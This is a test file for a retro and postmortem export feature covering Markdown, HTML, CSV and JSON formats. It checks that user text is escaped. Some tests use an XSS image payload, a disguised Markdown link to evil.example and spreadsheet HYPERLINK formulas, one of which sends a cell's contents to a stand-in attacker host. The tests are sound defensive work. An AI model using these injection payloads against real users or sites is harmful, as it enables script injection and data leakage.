import { marked } from 'marked';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { retroToCsv } from '../../../src/domain/retro/export/csv';
import { escapeHtml, retroToHtml } from '../../../src/domain/retro/export/html';
import { parseRetroExport, retroToJson } from '../../../src/domain/retro/export/json';
import { retroToMarkdown } from '../../../src/domain/retro/export/markdown';
import { fileBaseName } from '../../../src/domain/retro/export/outline';
import { markdownToJira } from '../../../src/domain/shared/jira-markup';
import { ctx, samplePostmortem, sampleRetro, XSS } from './export-fixture';

describe('Markdown export', () => {
  const md = retroToMarkdown(sampleRetro(), ctx);

  it('has the header: date, team, sprint, participants, template', () => {
    expect(md).toContain('# Retro — Sprint 7');
    expect(md).toContain('- Date: Fri 20 Nov 2026');
    expect(md).toContain('- Team: Platform SRE');
    expect(md).toContain('- Sprint: Sprint 7');
    expect(md).toContain('- Participants: 6');
    expect(md).toContain('- Template: Ops retro');
  });

  it('dates the retro by the team’s day, in its time zone, as its file name does', () => {
    // Thu 19 Nov 22:30 UTC is Fri 20 Nov 09:30 in Sydney.
    const r = { ...sampleRetro(), createdAt: '2026-11-19T22:30:00.000Z' };
    const sydney = { ...ctx, timeZone: 'Australia/Sydney' };
    expect(retroToMarkdown(r, sydney)).toContain('- Date: Fri 20 Nov 2026');
    expect(retroToHtml(r, sydney)).toContain('Fri 20 Nov 2026');
    expect(fileBaseName(r, sydney.timeZone)).toBe('2026-11-20-retro-sprint-7');
    expect(fileBaseName(r, 'UTC')).toBe('2026-11-19-retro-sprint-7');
  });

  it('lists every card per column with votes, groups nested, actions under their card', () => {
    expect(md).toContain('## Alerts\n\n_Which alerts were actionable, which were noise?_');
    expect(md).toContain(
      '- **Noisy alerts** (4 votes)\n  - Disk alerts fire at 80%\n  - CPU alert flaps nightly\n  - Action: Tune disk alert thresholds (owner: Ana · due: Fri 4 Dec 2026 · Prevent · OPS-42)',
    );
    expect(md).toContain('- DNS outage ate two days (2 votes)\n  - Action: Write DNS failover runbook');
    expect(md).toContain('- Nobody voted for this card (0 votes)');
  });

  it('keeps a group title with a lone * bold as typed', () => {
    const r = sampleRetro();
    r.groups = [{ id: 'g1', title: 'p95*' }];
    const html = marked.parse(retroToMarkdown(r, ctx), { async: false });
    expect(html).toContain('<li><strong>p95*</strong> (4 votes)');
  });

  it('nests an action linked to one card of a group under that card', () => {
    const r = sampleRetro();
    const cpu = r.cards.find((c) => c.text === 'CPU alert flaps nightly')!;
    r.actions[1] = { ...r.actions[1]!, sourceId: cpu.id };
    const out = retroToMarkdown(r, ctx);
    expect(out).toContain(
      '  - CPU alert flaps nightly\n    - Action: Write DNS failover runbook (owner: Unassigned · Mitigate)\n  - Action: Tune disk alert thresholds',
    );
    expect(retroToHtml(r, ctx)).toContain(
      '<li>CPU alert flaps nightly<ul><li class="action">Write DNS failover runbook (owner: Unassigned · Mitigate)</li></ul></li>',
    );
  });

  it('has discussion notes and then all actions as a list', () => {
    expect(md).toContain('### Noisy alerts (4 votes)\n\nRaise thresholds to 90%');
    const actions = md.slice(md.indexOf('## Action items'));
    expect(actions).toContain(
      '- [ ] Tune disk alert thresholds (owner: Ana · due: Fri 4 Dec 2026 · Prevent · OPS-42) — from: Noisy alerts',
    );
    expect(actions).toContain(
      '- [ ] Write DNS failover runbook (owner: Unassigned · Mitigate) — from: DNS outage ate two days',
    );
  });

  it('includes the incident and timeline for a postmortem: times written for people, links as links', () => {
    const out = retroToMarkdown(samplePostmortem(), ctx);
    expect(out).toContain('- Severity: SEV1');
    expect(out).toContain('- Start: Wed 18 Nov 2026 02:10 UTC\n- End: Wed 18 Nov 2026 03:40 UTC');
    expect(out).toContain('- Services affected: api-gateway, postgres');
    expect(out).toContain('- Incident commander: Ana');
    expect(out).toContain('- Wed 18 Nov 2026 02:12 UTC — Pager fired (<https://grafana.example/d/1>)');
    expect(out).not.toMatch(/\d{4}-\d\d-\d\dT/);
    const html = marked.parse(out, { async: false });
    expect(html).toContain('<a href="https://grafana.example/d/1">https://grafana.example/d/1</a>');
  });

  it("keeps the lines of a postmortem's impact, as a block after the incident's details", () => {
    const pm = samplePostmortem();
    pm.incident = {
      ...pm.incident!,
      impact: 'Checkout was down.\n- 40% of checkouts failed\n- 2 h of degraded search',
    };
    const html = marked.parse(retroToMarkdown(pm, ctx), { async: false });
    const incident = html.slice(html.indexOf('<h2>Incident</h2>'), html.indexOf('<h2>Timeline</h2>'));
    expect(incident).toContain('<p>Checkout was down.</p>');
    expect(incident).toContain('<li>40% of checkouts failed</li>\n<li>2 h of degraded search</li>');
    expect(incident).toContain('<li>Scribe: Bo</li>');
    expect(incident).not.toContain('Checkout was down. - 40%');
  });

  it('escapes only what Markdown needs: no stray backslashes for Jira, Confluence or Slack', () => {
    const r = sampleRetro();
    r.cards[2] = { ...r.cards[2]!, text: 'predict_linear(disk[6h], 4*3600) < 0 fired ~5 min late' };
    r.cards[3] = { ...r.cards[3]!, text: 'Alerts were *noise*' };
    const out = retroToMarkdown(r, ctx);
    expect(out).toContain('- predict_linear(disk[6h], 4*3600) < 0 fired ~5 min late (2 votes)');
    expect(out).toContain('- Alerts were \\*noise\\* (0 votes)');
  });

  it("escapes an action's owner name and ticket key like the rest of the user text, for Confluence and Jira too", () => {
    const r = sampleRetro();
    r.actions[0] = { ...r.actions[0]!, ticketKey: XSS };
    const named = { ...ctx, memberName: () => 'Bo [x](http://evil.example)' };
    const out = retroToMarkdown(r, named);
    expect(out).toContain(
      '- [ ] Tune disk alert thresholds (owner: Bo \\[x\\](http://evil.example) · due: Fri 4 Dec 2026 · Prevent · \\<img src=x onerror=alert(1)>)',
    );
    const html = marked.parse(out, { async: false });
    expect(html).not.toContain('<img');
    // The name shows as typed: no link disguised as "x" (a bare address is linked, as in any card's text).
    expect(html).not.toContain('">x</a>');
    expect(html).toContain('owner: Bo [x](<a href="http://evil.example">http://evil.example</a>)');
    const wiki = markdownToJira(out);
    expect(wiki).not.toContain('[x|http://evil.example]');
    expect(wiki).toContain('owner: Bo \\[x\\]([http://evil.example])');
  });
});

describe('HTML export', () => {
  const html = retroToHtml(sampleRetro(), ctx);

  it('escapes all user text: markup in a card or action comes out as text', () => {
    expect(html).not.toContain('<img');
    expect(html).toContain(escapeHtml(XSS));
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).not.toMatch(/<script/i);
  });

  it('is self-contained and has every card with votes and nested actions', () => {
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).not.toMatch(/<link|src="http/);
    for (const text of [
      'Disk alerts fire at 80%',
      'CPU alert flaps nightly',
      'DNS outage ate two days',
      'Nobody voted for this card',
    ]) {
      expect(html).toContain(text);
    }
    expect(html).toContain('<strong>Noisy alerts</strong> <span class="votes">4 votes</span>');
    expect(html).toContain('Tune disk alert thresholds (owner: Ana · due: Fri 4 Dec 2026 · Prevent · OPS-42)');
  });

  it('keeps a timeline link with a space or | whole in the Markdown', () => {
    const pm = samplePostmortem();
    pm.timeline = [{ ...pm.timeline[0]!, link: 'https://wiki.example/Runbook DB failover?q=a|b' }];
    expect(retroToMarkdown(pm, ctx)).toContain('(<https://wiki.example/Runbook%20DB%20failover?q=a%7Cb>)');
  });

  it("keeps the lines of a postmortem's impact: its text is shown as typed, line breaks included", () => {
    const pm = samplePostmortem();
    pm.incident = { ...pm.incident!, impact: 'Checkout was down.\n- 40% of checkouts <failed>\n- 2 h of search' };
    const out = retroToHtml(pm, ctx);
    const [, classes = '', text] = /<dt>Impact<\/dt><dd(?: class="([^"]*)")?>([^<]*)<\/dd>/.exec(out) ?? [];
    expect(text).toBe(escapeHtml(pm.incident.impact));
    // The page's own style sheet must lay that element out with its line breaks.
    const preWrap = [...out.matchAll(/\.([\w-]+)\{[^}]*white-space:pre-wrap/g)].map((m) => m[1]);
    expect(classes.split(' ').some((c) => preWrap.includes(c))).toBe(true);
  });

  it('writes the postmortem timeline with readable times and its links as links', () => {
    const out = retroToHtml(samplePostmortem(), ctx);
    expect(out).toContain('<dt>Start</dt><dd>Wed 18 Nov 2026 02:10 UTC</dd>');
    expect(out).toContain(
      '<li><time datetime="2026-11-18T02:12:00.000Z">Wed 18 Nov 2026 02:12 UTC</time> — Pager fired (<a href="https://grafana.example/d/1">https://grafana.example/d/1</a>)</li>',
    );
  });
});

describe('CSV export', () => {
  const rows = (csv: string) => {
    const parsed = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true });
    expect(parsed.errors).toEqual([]);
    return parsed.data;
  };

  it('starts with a UTF-8 byte order mark, so Excel reads —, · and curly quotes', () => {
    const r = sampleRetro();
    r.cards[3] = { ...r.cards[3]!, text: '“Quiet” week — mostly' };
    const csv = retroToCsv(r, ctx);
    expect(csv.startsWith('\uFEFFKind,')).toBe(true);
    expect(rows(csv).find((row) => row.Kind === 'card' && row.Text?.startsWith('“'))?.Text).toBe(
      '“Quiet” week — mostly',
    );
  });

  it('gives each card its own votes and each group its total, once', () => {
    const data = rows(retroToCsv(sampleRetro(), ctx));
    expect(data.find((r) => r.Kind === 'group')).toMatchObject({ Column: 'Alerts', Text: 'Noisy alerts', Votes: '4' });
    expect(data.filter((r) => r.Group === 'Noisy alerts' && r.Kind === 'card').map((r) => [r.Text, r.Votes])).toEqual([
      ['Disk alerts fire at 80%', ''],
      ['CPU alert flaps nightly', ''],
    ]);
    expect(data.find((r) => r.Text === 'DNS outage ate two days')).toMatchObject({ Kind: 'card', Votes: '2' });
    expect(data.find((r) => r.Text === 'Nobody voted for this card')).toMatchObject({ Votes: '0', Group: '' });
    const total = data.reduce((sum, r) => sum + Number(r.Votes || 0), 0);
    expect(total).toBe(6);
  });

  it("puts an action's owner, due date, type and ticket in their own columns", () => {
    const data = rows(retroToCsv(sampleRetro(), ctx));
    expect(data.find((r) => r.Text === 'Tune disk alert thresholds')).toMatchObject({
      Kind: 'action',
      Column: 'Alerts',
      Owner: 'Ana',
      'Due date': '2026-12-04',
      Type: 'Prevent',
      Ticket: 'OPS-42',
      Status: 'open',
      From: 'Noisy alerts',
    });
    expect(data.find((r) => r.Text === 'Write DNS failover runbook')).toMatchObject({ Owner: '', 'Due date': '' });
  });

  it("carries a postmortem's incident details and timeline", () => {
    const data = rows(retroToCsv(samplePostmortem(), ctx));
    expect(data.filter((r) => r.Kind === 'incident').map((r) => [r.Type, r.Text, r.At])).toEqual([
      ['Severity', 'SEV1', ''],
      ['Start', 'Wed 18 Nov 2026 02:10 UTC', '2026-11-18T02:10:00.000Z'],
      ['End', 'Wed 18 Nov 2026 03:40 UTC', '2026-11-18T03:40:00.000Z'],
      ['Services affected', 'api-gateway, postgres', ''],
      ['Incident commander', 'Ana', ''],
      ['Scribe', 'Bo', ''],
      ['Impact', 'Checkout failed for 90 minutes.', ''],
    ]);
    expect(data.find((r) => r.Kind === 'timeline')).toMatchObject({
      Text: 'Pager fired',
      At: '2026-11-18T02:12:00.000Z',
      Link: 'https://grafana.example/d/1',
    });
  });

  it('neutralises spreadsheet formulas', () => {
    const r = sampleRetro();
    r.cards[3] = { ...r.cards[3]!, text: '=HYPERLINK("http://evil")' };
    expect(retroToCsv(r, ctx)).toContain(`"'=HYPERLINK(""http://evil"")"`);
  });

  it('neutralises a formula of more than one line: a card, an untitled group and the incident impact', () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")\nsecond line';
    const pm = samplePostmortem();
    pm.cards[0] = { ...pm.cards[0]!, text: formula };
    pm.groups = [{ id: 'g1', title: '' }];
    pm.incident = { ...pm.incident!, impact: `${formula}\n- 40% of checkouts failed` };
    const data = rows(retroToCsv(pm, ctx));
    expect(data.find((r) => r.Kind === 'card' && r.Text?.includes('HYPERLINK'))?.Text).toBe(`'${formula}`);
    expect(data.find((r) => r.Kind === 'group')?.Group).toBe(`'${formula}`);
    expect(data.find((r) => r.Type === 'Impact')?.Text).toBe(`'${pm.incident.impact}`);
  });
});

describe('JSON export', () => {
  it('round-trips the whole retro', () => {
    const r = sampleRetro();
    const parsed = parseRetroExport(retroToJson(r, null, '2026-11-20T12:00:00.000Z', String));
    expect(parsed.ok && parsed.value.retro).toEqual(r);
  });

  it('names the people it refers to by id', () => {
    const file = JSON.parse(retroToJson(samplePostmortem(), null, '2026-11-20T12:00:00.000Z', ctx.memberName));
    expect(file.people).toEqual([
      { id: 'm1', name: 'Ana' },
      { id: 'm2', name: 'Bo' },
    ]);
  });

  it('refuses malformed files with a message that says why', () => {
    expect(parseRetroExport('{not json')).toEqual({ ok: false, message: expect.stringMatching(/not valid JSON/) });
    expect(parseRetroExport('{"hello":1}')).toEqual({
      ok: false,
      message: 'This retro export cannot be imported: This is not a Cadence retro export (at format).',
    });
    const r = sampleRetro();
    const broken = JSON.parse(retroToJson(r, null, '2026-11-20T12:00:00.000Z', String));
    broken.retro.cards[0].columnId = 'nowhere';
    expect(parseRetroExport(JSON.stringify(broken))).toEqual({
      ok: false,
      message: expect.stringMatching(/column the retro does not have/),
    });
    broken.retro.cards[0].columnId = 'alerts';
    broken.retro.cards[0].text = '';
    expect(parseRetroExport(JSON.stringify(broken))).toEqual({
      ok: false,
      message: expect.stringMatching(/Card text cannot be empty/),
    });
  });
});
